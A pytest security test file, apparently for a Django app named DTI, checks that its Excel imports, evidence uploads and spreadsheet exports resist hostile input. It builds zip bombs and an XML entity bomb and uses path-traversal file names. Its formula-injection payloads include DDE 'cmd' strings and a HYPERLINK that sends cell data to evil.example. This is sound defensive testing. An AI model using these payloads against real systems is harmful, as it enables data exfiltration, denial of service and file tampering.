"""Hostile input (issue 9): what an attacker, or a careless file, sends to DTI.

* Every Excel import — units and people, the steering plan, a framework from .xlsx (command
  line), the unit's assessment workbook — refuses zip bombs (honest and lying about their size),
  programs and PDFs renamed .xlsx, oversized, empty, truncated and old .xls files, an XML entity
  bomb, a workbook with the wrong sheets or headers: a message in Vietnamese naming the problem,
  status 400 (exit status 1 on the command line), nothing written, nothing left on disk. Text
  that looks like a formula is imported as text; a formula cell is never evaluated.
* Evidence uploaded under path-traversal and control-character names is stored under a random
  name inside MEDIA_ROOT; the name shown is cleaned.
* Every export that writes what people typed into a spreadsheet or CSV neutralises text a
  spreadsheet would take for a formula.
* A data officer of unit B who changes ids in URLs reaches none of unit A's data: 404, and a
  forged POST writes nothing.
* Sign-in: lockout after repeated failures (the right password included) that says nothing of
  whether the username exists, lifted after DTI_LOCKOUT_MINUTES; a new session key at sign-in,
  the session flushed at sign-out, CSRF required.
"""

from __future__ import annotations

import contextlib
import csv
import datetime
import functools
import io
import json
import struct
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.apps import apps
from django.conf import settings
from django.contrib.auth.hashers import MD5PasswordHasher
from django.contrib.sessions.backends.db import SessionStore
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from helpers import AppraisalCase, AssessmentCase, results_case
from openpyxl import Workbook, load_workbook

from dti.accounts.models import Role, SecurityPolicy, User
from dti.assessments import workbook as assessment_workbook
from dti.assessments.models import Answer, Assessment, Evidence
from dti.audit.export import FORMULA_TRIGGERS
from dti.audit.models import AuditRecord
from dti.audit.trail import Actor
from dti.frameworks.models import Criterion, Framework
from dti.units.models import Department, Unit

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200 + b"This program"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

#: What a formula-injection attempt looks like, typed as text into a cell
CMD = "=cmd|' /C calc'!A0"
#: … and as a real formula cell, with a link out of the workbook
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def fresh_cache() -> None:
    """The sign-in lockout of unknown usernames lives in the cache: each test starts afresh."""
    cache.clear()


# ================================================================== hostile files


def saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def two_sheets(first: str = "Trang 1", second: str = "Trang 2") -> bytes:
    book = Workbook()
    book.active.title = first
    book.active.append(["Cột A", "Cột B"])
    book.active.append(["x", "y"])
    book.create_sheet(second)
    return saved(book)


@functools.cache
def zip_bomb() -> bytes:
    """A workbook-looking zip of a few tens of kilobytes holding 60 MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < 200 * 1024
    return data


@functools.cache
def lying_zip_bomb() -> bytes:
    """A real workbook whose sheet expands to 60 MB, the zip's directory claiming 1 kB: the
    size check is passed, and the reader must not trust the claim."""
    book = Workbook()
    book.active.title = "Đơn vị"
    data = saved(book)
    member = "xl/worksheets/sheet1.xml"
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == member:
                assert b"<sheetData></sheetData>" in body
                body = body.replace(b"<sheetData>", b"<sheetData>" + b" " * (60 << 20))
            archive.writestr(info.filename, body)
    raw = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        offset = archive.getinfo(member).header_offset
    struct.pack_into("<I", raw, offset + 22, 1024)  # the local header's uncompressed size
    name = member.encode()
    position = raw.find(b"PK\x01\x02")
    while raw[position + 46 : position + 46 + len(name)] != name:
        position = raw.find(b"PK\x01\x02", position + 4)
    struct.pack_into("<I", raw, position + 24, 1024)  # the central directory's
    assert len(raw) < 200 * 1024
    return bytes(raw)


def entity_bomb(data: bytes) -> bytes:
    """``data`` (a workbook) with a “billion laughs” in every sheet."""
    entities = '<!ENTITY l0 "hahahahahahahahahaha">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = body.decode().split("?>", 1)[-1]
                text = text.replace("<sheetData/>", "<sheetData></sheetData>", 1)
                assert "<sheetData>" in text
                laughs = '<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row>'
                text = text.replace("<sheetData>", "<sheetData>" + laughs, 1)
                body = f"<!DOCTYPE worksheet [{entities}]>{text}".encode()
            archive.writestr(info.filename, body)
    return out.getvalue()


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


# ================================================================== the Excel imports


class Outcome:
    """What an import answered: an HTTP status or an exit status, and the text shown."""

    def __init__(self, status: int, text: str) -> None:
        self.status, self.text = status, text


class Import:
    """One Excel import entry point, driven as its user drives it (in Vietnamese)."""

    refused_status = 400

    def good(self, text: str, formula: str) -> bytes:
        """A workbook this import accepts, with ``text`` in a text cell and ``formula`` as a
        formula cell in an optional text column."""
        raise NotImplementedError

    def wrong_headers(self) -> bytes:
        raise NotImplementedError

    def send(self, data: bytes, name: str = "tai-len.xlsx") -> Outcome:
        raise NotImplementedError

    def import_all(self, data: bytes) -> None:
        """Upload, preview and confirm ``data`` (which must be accepted)."""
        raise NotImplementedError

    def imported(self) -> tuple[str, str]:
        """The imported text cell and the imported formula cell, as stored."""
        raise NotImplementedError

    def state(self) -> Any:
        raise NotImplementedError

    def limit(self, monkeypatch: Any, settings: Any, limit: int) -> None:
        raise NotImplementedError

    def pending(self) -> list[str]:
        """The session keys of a workbook waiting for its import."""
        return []


class Web(Import):
    client: Client
    session_key = ""

    def pending(self) -> list[str]:
        return [key for key in session_keys(self.client) if key == self.session_key]


class UnitsImport(Web):
    session_key = "dti_units_import"
    UNITS = [
        "STT",
        "Tên cơ quan, đơn vị",
        "Mã",
        "Loại",
        "Nhóm",
        "Đơn vị cấp trên",
        "Phòng chuyên môn",
    ]
    PEOPLE = [
        "STT",
        "Họ tên",
        "Tên đăng nhập",
        "Email",
        "Điện thoại",
        "Chức vụ",
        "Vai trò",
        "Đơn vị",
        "Phòng",
    ]

    def __init__(self, personas: Any, frameworks: Any, tmp_path: Path) -> None:
        self.client = personas.client("admin")

    def good(self, text: str, formula: str) -> bytes:
        book = Workbook()
        units = book.active
        units.title = "Đơn vị"
        units.append(self.UNITS)
        units.append([1, text, "dv-doc-hai", "Khác", "", "", formula])
        units["B2"].data_type = "s"
        people = book.create_sheet("Người dùng")
        people.append(self.PEOPLE)
        people.append(
            [1, text, "doc.hai", "", "", formula, "Cán bộ cung cấp thông tin", "dv-doc-hai", ""]
        )
        people["B2"].data_type = "s"
        return saved(book)

    def wrong_headers(self) -> bytes:
        book = Workbook()
        book.active.title = "Đơn vị"
        book.active.append(["Số", "Tên gọi khác", "Ký hiệu lạ"])
        book.active.append([1, "Sở X", "sx"])
        return saved(book)

    def send(self, data: bytes, name: str = "don-vi.xlsx") -> Outcome:
        response = self.client.post(
            reverse("units:import"), {"file": SimpleUploadedFile(name, data)}
        )
        return Outcome(response.status_code, response.content.decode())

    def import_all(self, data: bytes) -> None:
        assert self.send(data).status == 302
        preview = self.client.get(reverse("units:import_preview"))
        assert preview.context["plan"].problems == [], preview.context["plan"].problems
        token = self.client.session[self.session_key]
        response = self.client.post(
            reverse("units:import_apply"), {"token": token["token"], "sha256": token["sha256"]}
        )
        assert response.status_code == 302, response.content.decode()

    def imported(self) -> tuple[str, str]:
        unit = Unit.objects.get(code="dv-doc-hai")
        person = User.objects.get(username="doc.hai")
        assert person.full_name == unit.name
        departments = ";".join(unit.departments.values_list("name", flat=True))
        return unit.name, departments + person.position

    def state(self) -> Any:
        return [
            Unit.objects.count(),
            Department.objects.count(),
            User.objects.count(),
            Role.objects.count(),
            AuditRecord.objects.count(),
        ]

    def limit(self, monkeypatch: Any, settings: Any, limit: int) -> None:
        from dti.units import forms

        monkeypatch.setattr(forms, "MAX_UPLOAD_BYTES", limit)


class SteeringImport(Web):
    session_key = "dti_steering_import"
    TARGETS = [
        "STT",
        "Nhóm chỉ tiêu",
        "Mã",
        "Chỉ tiêu",
        "Mục tiêu",
        "Thời hạn",
        "Thành viên chủ trì (tên đăng nhập)",
        "Đơn vị chủ trì",
        "Đơn vị phối hợp",
    ]
    TASKS = [
        "STT",
        "Mã",
        "Nhiệm vụ",
        "Nội dung",
        "Thời gian hoàn thành",
        "Thành viên chủ trì (tên đăng nhập)",
        "Đơn vị chủ trì",
        "Đơn vị phối hợp",
    ]

    def __init__(self, personas: Any, frameworks: Any, tmp_path: Path) -> None:
        from dti.accounts.actions import grant_role
        from dti.steering import actions

        system = Actor(label="test")
        member = User.objects.create_user(username="bancd", password="x", full_name="Bancd")
        grant_role(system, member, Role.Kind.STEERING)
        self.plan = actions.create_plan(system, "Kế hoạch 2023", 2023)
        self.client = personas.client("admin")

    def good(self, text: str, formula: str) -> bytes:
        book = Workbook()
        targets = book.active
        targets.title = "Chỉ tiêu"
        targets.append(self.TARGETS)
        targets.append([1, "1. Hạ tầng số", "9.z", text, "≥ 80 %", "", "bancd", formula, ""])
        targets["D2"].data_type = "s"
        tasks = book.create_sheet("Nhiệm vụ")
        tasks.append(self.TASKS)
        tasks.append([1, "9", text, formula, "Thực hiện hàng năm", "bancd", "", ""])
        tasks["C2"].data_type = "s"
        return saved(book)

    def wrong_headers(self) -> bytes:
        book = Workbook()
        book.active.title = "Chỉ tiêu"
        book.active.append(["Số", "Tên gọi khác"])
        book.active.append([1, "Chỉ tiêu X"])
        return saved(book)

    def send(self, data: bytes, name: str = "ke-hoach.xlsx") -> Outcome:
        response = self.client.post(
            reverse("steering:import", args=[self.plan.pk]),
            {"file": SimpleUploadedFile(name, data)},
        )
        return Outcome(response.status_code, response.content.decode())

    def import_all(self, data: bytes) -> None:
        assert self.send(data).status == 302
        preview = self.client.get(reverse("steering:import_preview"))
        assert preview.context["found"].problems == [], preview.context["found"].problems
        token = self.client.session[self.session_key]
        response = self.client.post(
            reverse("steering:import_apply"), {"token": token["token"], "sha256": token["sha256"]}
        )
        assert response.status_code == 302, response.content.decode()

    def imported(self) -> tuple[str, str]:
        from dti.steering.models import Target, Task

        target = Target.objects.get(code="9.z")
        task = Task.objects.get(code="9")
        assert task.title == target.indicator
        return target.indicator, target.lead_unit + task.description

    def state(self) -> Any:
        from dti.steering.models import Target, Task

        return [Target.objects.count(), Task.objects.count(), AuditRecord.objects.count()]

    def limit(self, monkeypatch: Any, settings: Any, limit: int) -> None:
        from dti.units import forms

        monkeypatch.setattr(forms, "MAX_UPLOAD_BYTES", limit)


class AssessmentWorkbook(Web):
    session_key = "dti_assessment_workbook"

    def pending(self) -> list[str]:
        return [key for key in session_keys(self.client) if key.startswith(self.session_key)]

    def __init__(self, personas: Any, frameworks: Any, tmp_path: Path) -> None:
        self.case = AssessmentCase(personas, frameworks)
        self.client = personas.client("officer_a")
        self.url = reverse("assessments:workbook_upload", args=[self.case.assessment.pk])

    def _book(self) -> Any:
        response = self.client.get(reverse("assessments:workbook", args=[self.case.assessment.pk]))
        return load_workbook(io.BytesIO(response.content))

    @staticmethod
    def _row(sheet: Any, code: str) -> int:
        return next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == code)

    @staticmethod
    def _column(header: str) -> int:
        return [c.header for c in assessment_workbook.FIGURE_COLUMNS].index(header) + 1

    def good(self, text: str, formula: str) -> bytes:
        book = self._book()
        sheet = book[assessment_workbook.SHEET_FIGURES]
        note = self._column("Ghi chú")
        sheet.cell(self._row(sheet, "1.1"), self._column("Có/Không")).value = "Có"
        cell = sheet.cell(self._row(sheet, "1.1"), note)
        cell.value = text
        cell.data_type = "s"
        sheet.cell(self._row(sheet, "1.2"), self._column("Có/Không")).value = "Có"
        sheet.cell(self._row(sheet, "1.2"), note).value = formula
        return saved(book)

    def wrong_headers(self) -> bytes:
        book = self._book()
        sheet = book[assessment_workbook.SHEET_FIGURES]
        for cell in sheet[1]:
            cell.value = "Cột lạ"
        return saved(book)

    def send(self, data: bytes, name: str = "bieu-mau.xlsx") -> Outcome:
        response = self.client.post(
            self.url, {"step": "check", "file": SimpleUploadedFile(name, data)}
        )
        return Outcome(response.status_code, response.content.decode())

    def import_all(self, data: bytes) -> None:
        assert self.send(data).status == 200
        [key] = self.pending()
        token = self.client.session[key]
        response = self.client.post(
            self.url, {"step": "apply", "token": token["token"], "sha256": token["sha256"]}
        )
        assert response.status_code == 302, response.content.decode()

    def imported(self) -> tuple[str, str]:
        notes = dict(
            Answer.objects.filter(assessment=self.case.assessment).values_list(
                "criterion__code", "note"
            )
        )
        return notes["1.1"], notes.get("1.2", "")

    def state(self) -> Any:
        self.case.assessment.refresh_from_db()
        answers = sorted(
            Answer.objects.filter(assessment=self.case.assessment).values_list(
                "criterion__code", "inputs", "note", "version"
            )
        )
        return self.case.assessment.general_info, answers, AuditRecord.objects.count()

    def limit(self, monkeypatch: Any, settings: Any, limit: int) -> None:
        monkeypatch.setattr(assessment_workbook, "MAX_UPLOAD_BYTES", limit)


class FrameworkImport(Import):
    """``dti framework import FILE.xlsx``: a refusal exits with status 1."""

    refused_status = 1

    def __init__(self, personas: Any, frameworks: Any, tmp_path: Path) -> None:
        self.folder = tmp_path
        self.folder.mkdir()

    def _book(self) -> Any:
        from dti.frameworks.fileformat import builtin_path, load_file
        from dti.frameworks.spreadsheet import write_workbook

        framework = load_file(builtin_path("bacninh-so")).framework  # type: ignore[arg-type]
        buffer = io.BytesIO()
        write_workbook(framework, buffer)  # type: ignore[arg-type]
        return load_workbook(io.BytesIO(buffer.getvalue()))

    def good(self, text: str, formula: str) -> bytes:
        from dti.frameworks.spreadsheet import CRITERIA_COLUMNS, SHEET_CRITERIA

        book = self._book()
        sheet = book[SHEET_CRITERIA]
        keys = [c.key for c in CRITERIA_COLUMNS]
        row = next(r for r in range(2, sheet.max_row + 1) if str(sheet.cell(r, 1).value) == "1.1")
        title = sheet.cell(row, keys.index("title") + 1)
        title.value = text
        title.data_type = "s"
        sheet.cell(row, keys.index("notes") + 1).value = formula
        return saved(book)

    def wrong_headers(self) -> bytes:
        from dti.frameworks.spreadsheet import SHEET_CRITERIA

        book = self._book()
        for cell in book[SHEET_CRITERIA][1]:
            cell.value = "Cột lạ"
        return saved(book)

    def send(self, data: bytes, name: str = "khung.xlsx") -> Outcome:
        path = self.folder / name
        path.write_bytes(data)
        out = io.StringIO()
        try:
            call_command("framework", "import", str(path), stdout=out, stderr=out)
        except SystemExit as exit_:
            return Outcome(int(exit_.code or 0), out.getvalue())
        except CommandError as error:
            return Outcome(1, out.getvalue() + str(error))
        return Outcome(0, out.getvalue())

    def import_all(self, data: bytes) -> None:
        outcome = self.send(data)
        assert outcome.status == 0, outcome.text

    def imported(self) -> tuple[str, str]:
        criterion = Criterion.objects.get(framework__code="bacninh-so", code="1.1")
        return criterion.title, criterion.notes

    def state(self) -> Any:
        return [Framework.objects.count(), Criterion.objects.count(), AuditRecord.objects.count()]

    def limit(self, monkeypatch: Any, settings: Any, limit: int) -> None:
        settings.DTI_FRAMEWORK_MAX_BYTES = limit


IMPORTS: dict[str, type[Import]] = {
    "units": UnitsImport,
    "steering": SteeringImport,
    "assessment-workbook": AssessmentWorkbook,
    "framework-cli": FrameworkImport,
}


@pytest.fixture(params=sorted(IMPORTS))
def entry(request: Any, personas: Any, tmp_path: Path) -> Import:
    frameworks = (
        request.getfixturevalue("builtin_frameworks")
        if request.param == "assessment-workbook"
        else {}
    )
    return IMPORTS[request.param](personas, frameworks, tmp_path / "cli")


def session_keys(client: Client) -> list[str]:
    return list(client.session.keys())


def stored_files() -> list[Path]:
    media = Path(settings.MEDIA_ROOT)
    return sorted(p for p in media.rglob("*") if p.is_file()) if media.exists() else []


NOT_XLSX = "tệp không phải là tệp Excel (.xlsx)"
UNREADABLE = "tệp không phải là tệp Excel đọc được"
NO_SHEET = "tệp Excel không có trang tính"
NO_HEADER = "không có dòng tiêu đề"

#: name → (the file, the Vietnamese words that name the problem)
HOSTILE: dict[str, tuple[Callable[[Import], bytes], str]] = {
    "zip-bomb": (lambda e: zip_bomb(), "60 MB khi giải nén; tối đa 50 MB"),
    "zip-bomb-lying-about-its-size": (lambda e: lying_zip_bomb(), UNREADABLE),
    "program-renamed-xlsx": (lambda e: EXE, NOT_XLSX),
    "pdf-renamed-xlsx": (lambda e: PDF, NOT_XLSX),
    "old-xls": (lambda e: OLE2, "tệp Excel 97–2003 cũ (.xls)"),
    "truncated-zip": (lambda e: truncated(e.good("Sở A", "")), UNREADABLE),
    "xml-entity-bomb": (lambda e: entity_bomb(e.good("Sở A", "")), UNREADABLE),
    "wrong-sheets": (lambda e: two_sheets(), NO_SHEET),
    "wrong-headers": (lambda e: e.wrong_headers(), NO_HEADER),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_workbook_is_refused_with_its_reason_and_nothing_is_kept(
    entry: Import, case: str
) -> None:
    make, reason = HOSTILE[case]
    data = make(entry)
    before = entry.state()
    outcome = entry.send(data)
    assert outcome.status == entry.refused_status, outcome.text[-2000:]
    assert reason in outcome.text, outcome.text[-2000:]
    assert entry.state() == before
    assert entry.pending() == []
    assert stored_files() == []


def test_an_oversized_or_empty_workbook_is_refused(
    entry: Import, monkeypatch: Any, settings: Any
) -> None:
    entry.limit(monkeypatch, settings, 1024 * 1024)
    before = entry.state()
    data = entry.good("Sở A", "")
    oversized = data + b"\0" * (1024 * 1024 + 1 - len(data))
    outcome = entry.send(oversized)
    assert outcome.status == entry.refused_status
    assert "quá lớn" in outcome.text and "1 MB" in outcome.text, outcome.text[-2000:]
    empty = entry.send(b"")
    assert empty.status == entry.refused_status
    assert "Tập tin được gửi là rỗng." in empty.text or "tệp trống" in empty.text
    assert entry.state() == before
    assert entry.pending() == []
    assert stored_files() == []


def test_text_like_a_formula_is_imported_as_text_and_a_formula_is_never_evaluated(
    entry: Import,
) -> None:
    entry.import_all(entry.good(CMD, FORMULA))
    text, formula = entry.imported()
    assert text == CMD
    assert "HYPERLINK" not in formula and "evil.example" not in formula
    assert entry.pending() == []
    assert [p for p in stored_files() if p.suffix == ".xlsx"] == []


# ================================================================== evidence file names


def multipart(fields: list[tuple[str, str]], field: str, disposition: str, content: bytes) -> bytes:
    """A multipart body written by hand, so that the test client does not clean the name."""
    boundary = "dti-hostile"
    body = b""
    for key, value in fields:
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; {disposition}\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode() + content
    return body + f"\r\n--{boundary}--\r\n".encode()


MULTIPART = "multipart/form-data; boundary=dti-hostile"

#: the Content-Disposition parameters of a file part → the name shown
HOSTILE_NAMES = {
    "unix-traversal": ('filename="../../etc/passwd.pdf"', "passwd.pdf"),
    "windows-traversal": ('filename="..\\\\..\\\\x.pdf"', "x.pdf"),
    "rfc2231-traversal": (
        "filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fbao-cao.pdf",
        "bao-cao.pdf",
    ),
    "control-characters": ('filename="ba\x00o\x07-c\x1bao\x7f.pdf"', "bao-cao.pdf"),
    "percent-encoded-nul": ("filename*=UTF-8''bao%00-cao%0D%0A.pdf", "bao-cao.pdf"),
    "right-to-left-override": ('filename="hoa-don\u202efdp.pdf"', "hoa-donfdp.pdf"),
}


def assert_stored_inside_media(path: Path, folder: str) -> None:
    media = Path(settings.MEDIA_ROOT).resolve()
    assert path.resolve().is_relative_to(media / folder)
    assert len(path.name) == 32 and all(c in "0123456789abcdef" for c in path.name)
    assert path.read_bytes() == PDF
    for outside in ("etc", "x.pdf", "passwd.pdf", "cron.d"):
        assert not (media.parent / outside).exists()
        assert not (media / outside).exists()


@pytest.mark.parametrize("name", sorted(HOSTILE_NAMES))
def test_evidence_with_a_hostile_name_is_stored_under_a_random_name(
    personas: Any, builtin_frameworks: Any, name: str
) -> None:
    disposition, shown = HOSTILE_NAMES[name]
    case = AssessmentCase(personas, builtin_frameworks)
    url = reverse("assessments:evidence", args=[case.assessment.pk])
    fields = [("kind", "file"), ("criteria", str(case.criterion("1.1").pk))]
    client = personas.client("officer_a")
    response = client.generic("POST", url, multipart(fields, "files", disposition, PDF), MULTIPART)
    assert response.status_code == 302, response.content.decode()[-1500:]
    evidence = Evidence.objects.get()
    assert evidence.original_name == shown
    [stored] = stored_files()
    assert_stored_inside_media(stored, "evidence")
    download = client.get(
        reverse("assessments:evidence_file", args=[case.assessment.pk, evidence.pk])
    )
    assert download["Content-Disposition"] == f'attachment; filename="{shown}"'


@pytest.mark.parametrize("name", sorted(HOSTILE_NAMES))
def test_a_steering_report_file_with_a_hostile_name_is_stored_under_a_random_name(
    personas: Any, name: str
) -> None:
    from test_steering import SteeringCase, local, report_url

    from dti.steering.models import ProgressReport

    disposition, shown = HOSTILE_NAMES[name]
    case = SteeringCase(personas)
    fields = [("quarter", "1"), ("value", "78,5"), ("narrative", "Đã triển khai.")]
    client = Client()
    client.force_login(case.member_a)
    with time_machine.travel(local(2023, 4, 20, 10, 0)):
        response = client.generic(
            "POST",
            report_url(case.target_a),
            multipart(fields, "evidence", disposition, PDF),
            MULTIPART,
        )
    assert response.status_code == 302, response.content.decode()[-1500:]
    report = ProgressReport.objects.get()
    assert report.evidence_name == shown
    [stored] = stored_files()
    assert_stored_inside_media(stored, "steering")


# ================================================================== formula injection in exports

#: Text a spreadsheet would take for a formula, each ending with the marker that finds it again
PAYLOADS = {
    "EQ": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm") #EQ',
    "PLUS": "+cmd|' /C calc'!A0 #PLUS",
    "MINUS": "-2+3+cmd|' /C calc'!A0 #MINUS",
    "AT": "@SUM(1+9)*cmd|' /C calc'!A0 #AT",
    "TAB": "\t=1+1 #TAB",
    "CR": "\r=1+1 #CR",
}


def markers_in_xlsx(content: bytes) -> set[str]:
    """The markers found in the workbook; every cell holding one must be text, never a formula."""
    book = load_workbook(io.BytesIO(content))
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                markers = {m for m in PAYLOADS if f"#{m}" in value}
                if markers:
                    where = f"{sheet.title}!{cell.coordinate}"
                    assert cell.data_type == "s", (where, cell.data_type, value)
                    found |= markers
    return found


def markers_in_csv(content: bytes) -> set[str]:
    """The markers found in the CSV; no field holding one may start as a formula does."""
    text = content.decode("utf-8-sig")
    found: set[str] = set()
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            markers = {m for m in PAYLOADS if f"#{m}" in field}
            if markers:
                assert not field.startswith(FORMULA_TRIGGERS), field
                found |= markers
    return found


class ExportWorld:
    """Published results of units named like formulas, and everything else the exports write:
    departments, people, a steering plan, a framework, notes, the audit trail."""

    def __init__(self, personas: Any, frameworks: Any) -> None:
        from dti.frameworks.actions import import_framework
        from dti.frameworks.fileformat import load_text
        from dti.periods import actions as period_actions
        from dti.periods.models import Period, PeriodGroup
        from dti.steering import actions as steering_actions

        p = PAYLOADS
        self.personas = personas
        case = results_case(personas, frameworks, approve=True)
        case.period = period_actions.move_period(case.admin, case.period, "published")
        self.period = case.period
        self.assessment = case.assessment
        Unit.objects.filter(pk=personas.unit_a.pk).update(name=p["EQ"])
        Unit.objects.filter(pk=personas.unit_b.pk).update(name=p["PLUS"])
        PeriodGroup.objects.filter(period=self.period).update(name=p["MINUS"])
        Period.objects.filter(pk=self.period.pk).update(name=p["AT"])
        Department.objects.filter(pk=personas.department_a.pk).update(name=p["TAB"])
        User.objects.filter(pk=personas.users["officer_a"].pk).update(
            full_name=p["CR"], position=p["AT"]
        )
        Answer.objects.filter(assessment=self.assessment).update(note=p["CR"])
        Assessment.objects.filter(pk=self.assessment.pk).update(
            general_info={"name": p["PLUS"], "address": p["MINUS"]}
        )
        from dti.audit.trail import record

        record(
            Actor(label=p["AT"]),
            "unit.update",
            Unit.objects.get(pk=personas.unit_a.pk),
            reason=p["TAB"],
        )
        system = Actor(label="test")
        member = User.objects.create_user(username="bancd", password="x", full_name="Bancd")
        from dti.accounts.actions import grant_role

        grant_role(system, member, Role.Kind.STEERING)
        self.steering_plan = steering_actions.create_plan(system, "Kế hoạch 2023", 2023)
        steering_actions.create_target(
            system,
            self.steering_plan,
            code="1.a",
            section=p["PLUS"],
            indicator=p["EQ"],
            comparator="gte",
            value=Decimal(80),
            unit="%",
            lead_member=member,
            lead_unit=p["MINUS"],
        )
        steering_actions.create_task(
            system,
            self.steering_plan,
            code="1",
            title=p["AT"],
            description=p["TAB"],
            timing="yearly",
            lead_member=member,
            coordinating=p["CR"],
        )
        yaml_text = (
            "code: doc-hai\n"
            f"name: {_yaml(p['EQ'])}\n"
            "criteria:\n"
            f"  - {{code: '1', title: {_yaml(p['PLUS'])}, max: 10, rule: yesno, notes: {_yaml(p['MINUS'])}}}\n"
        )
        loaded = load_text(yaml_text)
        assert not loaded.errors, loaded.problems
        self.framework, _created = import_framework(loaded, system)


def _yaml(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def _get(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]


def _passwords(world: ExportWorld) -> bytes:
    from dti.units.spreadsheet import passwords_workbook

    return passwords_workbook([(PAYLOADS["EQ"], "doc.hai", "Mk-tam-thoi-1")])


#: export → (how to get it as the person who may, xlsx or csv, the markers it must carry)
EXPORTS: dict[str, tuple[Callable[[ExportWorld], bytes], str, set[str]]] = {
    "results-workbook": (
        lambda w: _get(w.personas.client("admin"), reverse("results:workbook", args=[w.period.pk])),
        "xlsx",
        {"EQ", "PLUS", "MINUS", "AT"},
    ),
    "public-results-workbook": (
        lambda w: _get(Client(), reverse("public:workbook", args=[w.period.pk])),
        "xlsx",
        {"EQ", "PLUS", "MINUS", "AT"},
    ),
    "public-results-csv": (
        lambda w: _get(Client(), reverse("public:csv", args=[w.period.pk])),
        "csv",
        {"EQ", "PLUS", "MINUS"},
    ),
    "units-and-people": (
        lambda w: _get(w.personas.client("admin"), reverse("units:export")),
        "xlsx",
        {"EQ", "PLUS", "TAB", "CR", "AT"},
    ),
    "temporary-passwords": (_passwords, "xlsx", {"EQ"}),
    "steering-plan": (
        lambda w: _get(
            w.personas.client("admin"), reverse("steering:workbook", args=[w.steering_plan.pk])
        ),
        "xlsx",
        {"EQ", "PLUS", "MINUS", "AT", "TAB", "CR"},
    ),
    "audit-csv": (
        lambda w: _get(w.personas.client("admin"), reverse("audit:export")),
        "csv",
        {"EQ", "AT", "TAB"},
    ),
    "audit-xlsx": (
        lambda w: _get(w.personas.client("admin"), reverse("audit:export") + "?format=xlsx"),
        "xlsx",
        {"EQ", "AT", "TAB"},
    ),
    "assessment-workbook": (
        lambda w: _get(
            w.personas.client("officer_a"), reverse("assessments:workbook", args=[w.assessment.pk])
        ),
        "xlsx",
        {"CR", "PLUS", "MINUS"},
    ),
    "framework-workbook": (
        lambda w: _get(
            Client(),
            reverse("frameworks:export", args=[w.framework.code, w.framework.version, "xlsx"]),
        ),
        "xlsx",
        {"EQ", "PLUS", "MINUS"},
    ),
}


@pytest.fixture
def export_world(personas: Any, builtin_frameworks: Any) -> ExportWorld:
    return ExportWorld(personas, builtin_frameworks)


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_every_export_neutralises_text_that_looks_like_a_formula(
    export_world: ExportWorld, export: str
) -> None:
    get, kind, expected = EXPORTS[export]
    content = get(export_world)
    found = markers_in_xlsx(content) if kind == "xlsx" else markers_in_csv(content)
    assert expected <= found, f"{export} should carry {sorted(expected - found)}"


# ================================================================== another unit's data (IDOR)


def database() -> dict[str, list[dict[str, Any]]]:
    """Every row DTI keeps (sessions, permissions and content types aside) and the files."""
    rows = {
        model._meta.label: list(model.objects.order_by("pk").values())
        for model in apps.get_models(include_auto_created=True)
        if model._meta.app_label not in ("sessions", "auth", "contenttypes")
    }
    rows["files"] = [{"path": str(p)} for p in stored_files()]  # type: ignore[dict-item]
    return rows


class Request:
    """A request someone forges: the method, the URL, the data (as JSON or as a form), who sends
    it (unit B's data officer unless told) and the statuses that refuse it."""

    def __init__(
        self,
        url: str,
        data: Any = None,
        *,
        json: bool = False,
        method: str = "post",
        who: str = "officer_b",
        refused: tuple[int, ...] = (404,),
    ) -> None:
        self.url, self.data, self.json, self.method = url, data, json, method
        self.who, self.refused = who, refused

    def send(self, client: Client) -> Any:
        if self.method == "get":
            return client.get(self.url)
        if self.json:
            return client.post(self.url, json.dumps(self.data), "application/json")
        return client.post(self.url, self.data or {})
